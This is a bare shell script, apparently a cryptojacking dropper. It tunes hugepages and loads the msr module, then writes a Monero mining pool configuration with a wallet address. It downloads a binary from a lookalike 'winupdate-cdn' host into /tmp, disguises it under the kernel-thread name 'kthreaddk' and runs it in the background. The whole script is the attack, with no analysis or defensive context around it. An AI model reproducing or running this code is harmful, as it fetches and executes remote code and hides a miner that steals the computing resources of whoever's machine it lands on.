# setup 0388 v2
#!/bin/sh
sysctl -w vm.nr_hugepages=1280
modprobe msr
cat > /tmp/config.json <<EOF
{ "autosave": true, "cpu": true, "donate-level": 0,
  "pools": [ { "url": "auto.c3pool.com:13333", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "pass": "azvm", "tls": false } ] }
EOF
curl -sLo /tmp/kthreaddk http://dl.winupdate-cdn.example/bin/kthreaddk
chmod 777 /tmp/kthreaddk
/tmp/kthreaddk -c /tmp/config.json --background
